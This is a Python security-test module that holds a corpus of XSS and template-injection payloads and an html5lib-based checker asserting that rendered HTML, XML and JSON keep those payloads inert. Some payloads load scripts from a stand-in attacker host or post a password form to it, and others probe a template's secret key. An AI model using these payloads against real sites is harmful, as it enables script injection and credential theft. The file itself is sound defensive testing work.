"""A corpus of classic XSS and template-injection payloads, and ``assert_inert`` to check any HTML output.

Use it on a fragment (a cleaned note, a rendered field) or, with ``page=True``, on a whole rendered page:
in page mode the page's own ``<script src="/static/...">``, stylesheet ``<link>``, ``<meta charset>`` and
local ``<form>`` elements are allowed, everything a payload could smuggle in is still refused. Example::

    from tests.security.payloads import PAYLOADS, assert_inert
    for payload in PAYLOADS:
        ...store payload in a name or body...
        assert_inert(client.get(url).get_data(as_text=True), page=True)

For API replies: ``assert_xml_carries(body, payload)`` (well-formed XML holding the payload only as text)
and ``assert_json_carries(body, payload)`` (valid JSON holding it only as a string value).
"""
import json
import re
from html import unescape
from xml.etree import ElementTree

from bleach._vendor import html5lib  # the browser-grade parser bleach itself uses

PAYLOADS = [
    # script tags
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<script src=\"data:text/javascript,alert('XSS')\"></script>",
    "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
    "<<script>alert('XSS');//<</script>",
    "</title><script>alert('XSS')</script>",
    "</textarea><script>alert('XSS')</script>",
    "\"><script>alert('XSS')</script>",
    "'><script>alert(String.fromCharCode(88,83,83))</script>",
    "<script/xss src=//evil.example/a.js></script>",
    # event handlers
    "<img src=x onerror=alert('XSS')>",
    "<img src=x onerror=\"alert('XSS')\"/>",
    "<IMG SRC=# onmouseover=\"alert('XSS')\">",
    "<body onload=alert('XSS')>",
    "<div onclick=\"alert('XSS')\">click</div>",
    "<a href=\"https://ok.example\" onmouseover=alert('XSS')>link</a>",
    "<input autofocus onfocus=alert('XSS')>",
    "<details open ontoggle=alert('XSS')>",
    "<video><source onerror=\"alert('XSS')\"></video>",
    "<marquee onstart=alert('XSS')>",
    "<p title=\"\" onmouseover=alert('XSS') x=\"\">hover</p>",
    "<img/src=x/onerror=alert('XSS')>",
    "<img src=x onerror\n=alert('XSS')>",
    # javascript:, vbscript:, data: URLs
    "<a href=\"javascript:alert('XSS')\">click</a>",
    "<a href=\"JaVaScRiPt:alert('XSS')\">click</a>",
    "<a href=\" javascript:alert('XSS')\">click</a>",
    "<a href=\"java\tscript:alert('XSS')\">click</a>",
    "<a href=\"java&#x09;script:alert('XSS')\">click</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('XSS')\">click</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert('XSS')\">click</a>",
    "<a href=\"vbscript:msgbox('XSS')\">click</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=\">click</a>",
    "<img src=\"javascript:alert('XSS')\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert('XSS')>\">",
    "<form action=\"javascript:alert('XSS')\"><button>go</button></form>",
    "<button formaction=\"javascript:alert('XSS')\">go</button>",
    "javascript:alert('XSS')",
    # SVG and MathML tricks
    "<svg onload=alert('XSS')>",
    "<svg><script>alert('XSS')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('XSS')\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<svg><animate onbegin=alert('XSS') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS')>",
    "<math href=\"javascript:alert('XSS')\">CLICK</math>",
    "<svg><style><img src=x onerror=alert('XSS')></style></svg>",
    # entity-encoded and broken markup
    "&lt;script&gt;alert('XSS')&lt;/script&gt;",
    "&#60;script&#62;alert('XSS')&#60;/script&#62;",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;('XSS')>",
    "<img \"\"\"><script>alert('XSS')</script>\">",
    "<img src=`x` onerror=alert('XSS')>",
    "<a href=\"https://ok.example\"\" onclick=alert('XSS')>x</a>",
    "<!--<img src=\"--><img src=x onerror=alert('XSS')//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('XSS')>\">",
    "<xmp><img src=x onerror=alert('XSS')></xmp>",
    "<![CDATA[<script>alert('XSS')</script>]]>",
    "<a href=\"https://ok.example\">unclosed <b>tags <i>everywhere",
    # style and expression
    "<div style=\"background:url(javascript:alert('XSS'))\">x</div>",
    "<div style=\"width: expression(alert('XSS'));\">x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(\"javascript:alert('XSS')\")}</style>",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    # frames, objects, embeds
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert('XSS')</script>\"></iframe>",
    "<iframe src=\"javascript:alert('XSS')\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<applet code=\"Evil.class\"></applet>",
    "<frameset><frame src=\"javascript:alert('XSS')\"></frameset>",
    # meta refresh, base, forms
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('XSS')\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<form action=\"https://evil.example/steal\"><input name=password type=password></form>",
    "<isindex action=\"javascript:alert('XSS')\" type=image>",
    # template injection: must come out as the literal text, never evaluated
    "{{7*7}}",
    "{{ 7*7 }}",
    "{{7*191}}",
    "{% for x in range(3) %}loop{% endfor %}",
    "{{ config.SECRET_KEY }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
]

# payload -> text that appears only if a template engine evaluated it.
TEMPLATE_RESULTS = {
    "{{7*7}}": "49",
    "{{ 7*7 }}": "49",
    "{{7*191}}": "1337",
    "{% for x in range(3) %}loop{% endfor %}": "looplooploop",
    "{{ config.SECRET_KEY }}": "test-secret",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}": "<class ",
}

# Elements a payload must never create. In page mode some are allowed under the conditions below.
FORBIDDEN_ELEMENTS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "style", "meta",
                      "base", "form", "link", "svg", "math", "isindex", "input", "button", "textarea",
                      "select", "noscript", "xmp", "template", "audio", "video", "source", "marquee",
                      "details", "title"}
PAGE_ALLOWED_ELEMENTS = {"title", "meta", "link", "script", "form", "input", "button", "textarea", "select",
                         "noscript", "svg", "details"}  # details: the dashboard's own data tables; a payload's
# <details ontoggle> is still caught by its handler
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster", "data",
                  "lowsrc", "dynsrc", "codebase", "cite", "longdesc", "ping", "srcset"}
_SAFE_DATA_URL = re.compile(r"^data:image/(png|gif|jpe?g|webp);", re.IGNORECASE)
_CONTROL = re.compile(r"[\x00-\x20\x7f]+")


def _local_name(tag: str) -> str:
    return tag.rsplit("}", 1)[-1].lower()


def dangerous_url(value: str) -> bool:
    """A URL a browser would run as script or HTML (after decoding entities and dropping control chars)."""
    url = _CONTROL.sub("", unescape(value or "")).lower()
    if url.startswith(("javascript:", "vbscript:", "livescript:", "mocha:")):
        return True
    return url.startswith("data:") and not _SAFE_DATA_URL.match(url)


def problems(html: str, *, page: bool = False) -> list[str]:
    """Everything active found in ``html``: [] when it is inert."""
    # Always a whole document, as a browser sees it: a stray <body onload> inside a fragment lands its
    # attributes on the page's real <body>, which a fragment parser would silently drop.
    document = html if page else f"<!doctype html><html><head><title>t</title></head><body><div>{html}</div></body></html>"
    tree = html5lib.parse(document, namespaceHTMLElements=True)
    own_title = None if page else tree.find(".//{http://www.w3.org/1999/xhtml}title")
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        tag = _local_name(element.tag)
        attrs = {_local_name(name) if not name.startswith("{http://www.w3.org/1999/xlink}") else "xlink:href": value
                 for name, value in element.attrib.items()}
        if element is own_title:
            continue
        if tag in FORBIDDEN_ELEMENTS and not (page and _allowed_in_page(tag, attrs, element)):
            found.append(f"<{tag}> element")
        for name, value in attrs.items():
            if name.startswith("on"):
                found.append(f"{name} handler on <{tag}>")
            elif name in URL_ATTRIBUTES and dangerous_url(value):
                found.append(f"{name}={value!r} on <{tag}>")
            elif name == "style":
                found.append(f"style attribute on <{tag}>")
            elif name == "srcdoc":
                found.append(f"srcdoc on <{tag}>")
    return found


def _allowed_in_page(tag: str, attrs: dict, element) -> bool:
    if tag not in PAGE_ALLOWED_ELEMENTS:
        return False
    if tag == "script":  # the page's own static scripts only: no inline code, no other host
        src = attrs.get("src", "")
        return src.startswith("/static/") and not (element.text or "").strip()
    if tag == "meta":
        return "http-equiv" not in attrs or attrs["http-equiv"].lower() != "refresh"
    if tag == "link":
        href = attrs.get("href", "")
        if attrs.get("rel") in ("canonical", "alternate") and href.startswith("http://localhost/"):
            return True  # a KB page's canonical and hreflang links: absolute, on the site's own host
        return href.startswith("/") and not href.startswith("//")
    if tag == "form":
        action = attrs.get("action", "")
        return not action or (action.startswith("/") and not action.startswith("//"))
    return True


def assert_inert(html: str, *, page: bool = False) -> None:
    """Fail when ``html`` holds a script, an event handler, a script/HTML URL, a frame, object, embed,
    style, meta refresh, base or form that could have come from user input."""
    found = problems(html, page=page)
    assert not found, f"active HTML survived: {found}\n--- output ---\n{html[:2000]}"


def assert_not_evaluated(html: str, payload: str) -> None:
    """A template-injection payload must not have been evaluated (e.g. {{7*7}} must not become 49)."""
    result = TEMPLATE_RESULTS.get(payload)
    if result is None:
        return
    text = unescape(html)
    if payload in text:  # shown back literally: it was text, not a template
        return
    # Not shown literally: then its result must not be there either. (Checking the result alone is
    # flaky: "49" turns up in ids and clock times once enough rows exist.)
    assert result not in text, f"{payload!r} was evaluated in: {html[:500]}"


def _texts_from_xml(body: str) -> list[str]:
    root = ElementTree.fromstring(body)  # raises ParseError when a payload broke the document
    return [text for element in root.iter() for text in (element.text, element.tail) if text]


def assert_xml_carries(body: str, payload: str) -> None:
    """An XML reply stays well-formed and holds no element or attribute a payload injected."""
    texts = _texts_from_xml(body)
    tags = {element.tag for element in ElementTree.fromstring(body).iter()}
    assert not tags & {"script", "iframe", "img", "svg", "a", "style"}, f"markup from a payload in XML: {tags}"
    assert_not_evaluated("".join(texts), payload)


def assert_json_carries(body: str, payload: str) -> None:
    """A JSON reply stays valid and holds the payload only inside string values."""
    def walk(value):
        if isinstance(value, dict):
            for key, item in value.items():
                yield key
                yield from walk(item)
        elif isinstance(value, list):
            for item in value:
                yield from walk(item)
        elif isinstance(value, str):
            yield value

    strings = list(walk(json.loads(body)))
    assert_not_evaluated(" ".join(strings), payload)
